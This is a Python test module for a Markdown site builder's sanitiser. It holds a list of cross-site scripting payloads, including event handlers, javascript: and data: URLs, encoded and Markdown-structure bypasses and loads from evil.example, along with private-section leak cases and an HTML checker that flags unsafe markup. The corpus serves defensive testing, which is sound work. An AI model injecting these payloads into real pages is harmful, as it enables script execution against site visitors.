"""A corpus of hostile input, and a checker that finds anything unsafe in HTML.

Every script payload sets ``window.__xss`` (the browser test asserts it never does);
every private place holds a marker starting with ``PRIVMARK`` (no output may contain
one). The notes corpus covers each way the old line-based filter was beaten, plus the
classic HTML-sanitiser vectors.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

# -- notes that try to run script or load from another host ----------------------------

HOSTILE_NOTES: list[str] = [
    # raw HTML, plain and disguised
    '<img src=x onerror="window.__xss=1">',
    "<script>window.__xss=2</script>",
    "<svg onload=window.__xss=3>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<iframe src="javascript:window.__xss=4"></iframe>',
    '<body onload="window.__xss=5">',
    '<div style="background:url(//evil.example/bg.png)">x</div>',
    '<a href="javascript:window.__xss=6">click</a>',
    '<object data="//evil.example/x.swf"></object>',
    '<embed src="//evil.example/x.swf">',
    '<form action="//evil.example/"><button>go</button></form>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<details open ontoggle="window.__xss=7">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=8">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=9>">',
    '<<img src=x onerror="window.__xss=10">',
    '<img src="x" o\nnerror="window.__xss=11">',
    "<!--><img src=x onerror=window.__xss=12>-->",
    '<video poster="//evil.example/p.png"></video>',
    '<img srcset="//evil.example/a.png 1x">',
    '<input autofocus onfocus="window.__xss=13">',
    # raw HTML where a line-based filter loses track of Markdown's structure
    '```\n<img src=x onerror="window.__xss=14">',  # unclosed fence
    '\\`\n<img src=x onerror="window.__xss=15">',  # escaped backtick
    'text\n    <img src=x onerror="window.__xss=16">',  # indented continuation line
    'text\n\t<img src=x onerror="window.__xss=17">',  # tab-indented continuation
    '- item\n\n  <img src=x onerror="window.__xss=18">',  # inside a list item
    '~~~\n```\n~~~\n<img src=x onerror="window.__xss=19">',  # mixed fences
    '```\n~~~\n```\n<img src=x onerror="window.__xss=20">',
    '> quote\n<img src=x onerror="window.__xss=21">',
    '1. one\n   <img src=x onerror="window.__xss=22">',
    '| a |\n|---|\n| <img src=x onerror="window.__xss=23"> |',
    '!!! note\n    <img src=x onerror="window.__xss=24">',
    '`code` <img src=x onerror="window.__xss=25"> `code`',
    '``a`b`` <img src=x onerror="window.__xss=26">',
    # links and images with script or foreign targets
    "[x](javascript:window.__xss=27)",
    "[x](JaVaScRiPt:window.__xss=28)",
    "[x]( javascript:window.__xss=29)",
    "[x](&#106;avascript:window.__xss=30)",
    "[x](javascript&#58;window.__xss=31)",
    "[x](java\tscript:window.__xss=32)",
    "[x](<javascript:window.__xss=33>)",
    "[x]\n(javascript:window.__xss=34)",
    "[x](java\nscript:window.__xss=35)",
    "[x][ref]\n\n[ref]: javascript:window.__xss=36",
    "[x][ref]\n\n[ref]:\n  javascript:window.__xss=37",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9Mzg8L3NjcmlwdD4=)",
    '[x](https://ok.example "title" onclick="window.__xss=39")',
    "<javascript:window.__xss=40>",
    "![x](//evil.example/p.png)",
    "![x](/\\evil.example/p.png)",
    "![x](\\\\evil.example/p.png)",
    "![x](https://evil.example/p.png)",
    "![x](http:evil.example/p.png)",
    '![x](https://evil.example/p.png "t" onerror="window.__xss=41")',
    "![x][img]\n\n[img]: //evil.example/p.png",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # attribute lists and Markdown-in-HTML, which MkDocs sites often enable
    'para\n{: onclick="window.__xss=42"}',
    '<div markdown="1"><img src=x onerror="window.__xss=43"></div>',
    # wikilinks whose text is markup
    '[[<img src=x onerror="window.__xss=44">]]',
    "[[x|<script>window.__xss=45</script>]]",
    "[[javascript:window.__xss=46]]",
    # entities and encodings
    "&lt;img src=x onerror=window.__xss=47&gt;",
    '&#60;img src=x onerror="window.__xss=48"&#62;',
    '\u003cimg src=x onerror="window.__xss=49"\u003e',
]

# -- private text in every shape ------------------------------------------------------

PRIVATE_NOTES: list[str] = [
    "Public A.\n\n## Private\n\nPRIVMARK01 here.",
    "Public A.\n\n##Private\n\nPRIVMARK02",
    "Public A.\n\nPrivate\n-------\n\nPRIVMARK03",
    "Public A.\n\nPrivate\n=======\n\nPRIVMARK04",
    "Public A.\n\n## **Private**\n\nPRIVMARK05",
    "Public A.\n\n## Private ##\n\nPRIVMARK06",
    "Public A.\n\n## PRIVATE\n\nPRIVMARK07",
    "Public A.\n\n### private\n\nPRIVMARK08\n\n#### deeper\n\nPRIVMARK09",
    "Public A.\n\n# Private\n\nPRIVMARK10\n\n## Sub\n\nPRIVMARK11",
    "Public A.\n\n   ```\nnot a fence\n## Private\n\nPRIVMARK12",
    "Public A.\n\n## Private\n\n```\n## Public?\nPRIVMARK13\n```\n\nPRIVMARK14",
    "Public A.\n\n## Private\n\n~~~\n```\n~~~\n\nPRIVMARK15",
    "Public A.\n\n## *Pri*vate\n\nPRIVMARK16",
    "Public A.\n\n## `Private`\n\nPRIVMARK17",
    "Public A.\n\n## Priv&#97;te\n\nPRIVMARK18",
    "Public A.\n\n> ## Private\n> PRIVMARK19\n\nPRIVMARK20",
    "Public A.\n\n- item\n\n    ## Private\n\n    PRIVMARK21\n\nPRIVMARK22",
    "Public A.\n\n## Private\n\n| a |\n|---|\n| PRIVMARK23 |",
    "Public A.\n\n## Private\n\n[[jane-doe|PRIVMARK24]]",
    "Public A.\n\n## Private\n\n- PRIVMARK25\n- PRIVMARK26",
    "Public A.\n\n## Private\n\n!!! note\n    PRIVMARK27",
    "Public A.\n\n  ## Private\n\nPRIVMARK28",
    "Public A.\n\n## Private\n\n    PRIVMARK29 indented code",
    "Public A.\n\n## Private\nPRIVMARK30 right under the heading",
]
# Text that follows the end of a private part and must stay.
PUBLIC_AFTER = "Public A."

PRIVATE_FIELDS = """\
private_phone: "PRIVMARK40"
Private_email: PRIVMARK41
PRIVATE: PRIVMARK42
_secret: PRIVMARK43
nested:
  shown: visible-nested
  private_note: PRIVMARK44
  deeper:
    - {Private: PRIVMARK45, ok: visible-deep}
"""

# -- checking HTML ----------------------------------------------------------------------

FORBIDDEN_IN_CONTENT = frozenset(
    ("script", "style", "iframe", "frame", "object", "embed", "form", "base", "meta", "link")
)
URL_ATTRIBUTES = frozenset(
    [
        "href",
        "src",
        "srcset",
        "poster",
        "data",
        "background",
        "action",
        "formaction",
        "xlink:href",
        "cite",
    ]
)
SAFE_SCHEMES = ("http", "https", "mailto", "tel")
_NOISE = re.compile(r"[\x00-\x20\x7f]+")


def url_problem(attribute: str, value: str, *, loads: bool) -> str | None:
    """Why a URL attribute value is unsafe, or None. ``loads``: the browser fetches it."""
    url = _NOISE.sub("", html.unescape(value))
    if url.replace("\\", "/").startswith("//"):
        return None if not loads else f"{attribute} loads from another host: {value!r}"
    scheme = urlsplit(url).scheme.lower() if ":" in url else ""
    if scheme and scheme not in SAFE_SCHEMES:
        return f"{attribute} has a {scheme}: URL: {value!r}"
    if scheme and loads:
        return f"{attribute} loads from another host: {value!r}"
    return None


class UnsafeFinder(HTMLParser):
    """Collects every unsafe thing in an HTML document or fragment.

    ``content_only``: judge only what lies inside ``<article>`` (a built page's content;
    the theme's own scripts live outside it). Event handlers and script URLs are refused
    everywhere.
    """

    def __init__(self, content_only: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.content_only = content_only
        self.depth = 0 if content_only else 1
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "article":
            self.depth += 1
        inside = self.depth > 0
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…> event handler")
            if name == "style" and inside and re.search(r"url\(|@import|expression", value, re.I):
                self.found.append(f"<{tag} style> loads or runs: {value!r}")
            if name in URL_ATTRIBUTES:
                loads = not (tag == "a" and name == "href")
                for candidate in value.split(",") if name == "srcset" else [value]:
                    candidate = candidate.strip().split(" ")[0] if name == "srcset" else candidate
                    problem = url_problem(name, candidate, loads=loads and inside)
                    if problem and (inside or "script" in problem):
                        self.found.append(f"<{tag}> {problem}")
        if inside and tag in FORBIDDEN_IN_CONTENT:
            self.found.append(f"<{tag}> inside the page content")

    def handle_endtag(self, tag: str) -> None:
        if tag == "article" and self.content_only:
            self.depth -= 1


def unsafe(markup: str, content_only: bool = False) -> list[str]:
    """Everything unsafe in ``markup`` (empty when it is safe)."""
    finder = UnsafeFinder(content_only)
    finder.feed(markup)
    finder.close()
    return finder.found
